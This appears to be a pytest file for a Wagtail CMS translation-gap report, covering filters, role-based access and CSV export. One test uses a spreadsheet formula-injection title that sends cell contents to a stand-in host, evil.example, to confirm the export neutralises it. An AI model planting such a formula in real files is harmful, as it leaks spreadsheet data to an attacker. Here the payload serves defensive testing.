"""The coordinator's report of missing and outdated translations, per language and partner."""

import pytest
from django.urls import reverse

from cms.models import ActivityPage, GuidePage, Partner
from cms.translation.report import gap_summary, translation_gaps
from tests import factories
from tests.cms.conftest import make_member

TEXTS = {
    "title": {"nl": "De huisarts", "en": "The GP", "pl": "Lekarz"},
    "summary": {"nl": "Zo werkt het.", "en": "How it works.", "pl": "Jak to działa."},
    "body": {"nl": "Bel eerst.", "en": "Call first.", "pl": "Najpierw zadzwoń."},
}


@pytest.fixture
def translated(coalition):
    """GGD's guide is translated into English and Polish; then its Dutch summary changes."""
    factories.load(guides=[factories.guide("ggd", slug="huisarts", **TEXTS)])
    changed = {**TEXTS["summary"], "nl": "Zo werkt het nu.", "en": "How it works now."}
    factories.load(
        guides=[factories.guide("ggd", slug="huisarts", **{**TEXTS, "summary": changed})]
    )
    return GuidePage.objects.get(slug="huisarts")


def test_gaps_list_missing_and_outdated_languages(translated):
    (gap,) = translation_gaps([translated])
    assert gap.partner.slug == "ggd"
    assert "en" not in gap.missing and "en" not in gap.outdated  # updated with the source
    assert gap.outdated == ("pl",)
    assert "ro" in gap.missing and "uk" in gap.missing


def test_gaps_filter_by_language_and_status(translated):
    assert translation_gaps([translated], language="pl", status="missing") == []
    (gap,) = translation_gaps([translated], language="pl", status="outdated")
    assert gap.outdated == ("pl",) and gap.missing == ()
    assert translation_gaps([translated], language="en") == []


def test_summary_counts_per_partner_and_language(translated):
    pages = [translated, *ActivityPage.objects.all()]
    summary = gap_summary(translation_gaps(pages))
    ggd = Partner.objects.get(slug="ggd")
    assert summary[ggd]["pl"] == {"missing": 1, "outdated": 1}  # the activity, the guide
    assert summary[ggd]["ro"] == {"missing": 2, "outdated": 0}


def test_coordinator_sees_every_partner(client, translated):
    client.force_login(make_member("coordinator"))
    response = client.get(reverse("cms_translation_report"))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-gap="huisarts"' in html and 'data-gap="clubgids"' in html
    assert "VV Ochten" in html and "GGD Gelderland-Zuid" in html


def test_report_filters_by_partner_language_and_status(client, translated):
    client.force_login(make_member("coordinator"))
    ggd = Partner.objects.get(slug="ggd")
    response = client.get(
        reverse("cms_translation_report"),
        {"partner": ggd.pk, "language": "pl", "status": "outdated"},
    )
    slugs = [gap.page.slug for gap in response.context["object_list"]]
    assert slugs == ["huisarts"]


def test_editor_sees_only_their_partners_pages(client, translated):
    client.force_login(make_member("editor", "vv-ochten"))
    html = client.get(reverse("cms_translation_report")).content.decode()
    assert 'data-gap="clubgids"' in html
    assert 'data-gap="huisarts"' not in html


def test_report_exports_csv(client, translated):
    client.force_login(make_member("coordinator"))
    response = client.get(reverse("cms_translation_report"), {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode() if response.streaming else ""
    content = content or response.content.decode()
    assert "huisarts" in content.lower() or "De huisarts" in content


def test_people_without_a_role_cannot_see_the_report(client, django_user_model, coalition):
    stranger = django_user_model.objects.create_user("stranger", "s@example.org")
    client.force_login(stranger)
    response = client.get(reverse("cms_translation_report"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_editor_sees_the_status_of_each_language_in_the_page_editor(client, translated):
    client.force_login(make_member("editor", "ggd"))
    html = client.get(reverse("wagtailadmin_pages:edit", args=[translated.pk])).content.decode()
    assert 'data-translation-status="pl:outdated"' in html
    assert 'data-translation-status="en:complete"' in html
    assert 'data-translation-status="ro:missing"' in html


def exported_csv(response) -> list[list[str]]:
    import csv
    import io

    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, coalition):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    texts = {**TEXTS, "title": {"nl": formula}}
    factories.load(guides=[factories.guide("ggd", slug="formule", **texts)])
    client.force_login(make_member("coordinator"))

    rows = exported_csv(client.get(reverse("cms_translation_report"), {"export": "csv"}))

    titles = [row[0] for row in rows[1:]]
    assert "'" + formula in titles
    assert formula not in titles


def test_wagtails_own_reports_export_formulas_as_text(admin_client, coalition):
    formula = "=1+1"
    texts = {**TEXTS, "title": {"nl": formula}}
    factories.load(guides=[factories.guide("ggd", slug="formule", **texts)])

    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    titles = [row[0] for row in exported_csv(response)[1:]]
    assert "'=1+1" in titles
    assert formula not in titles
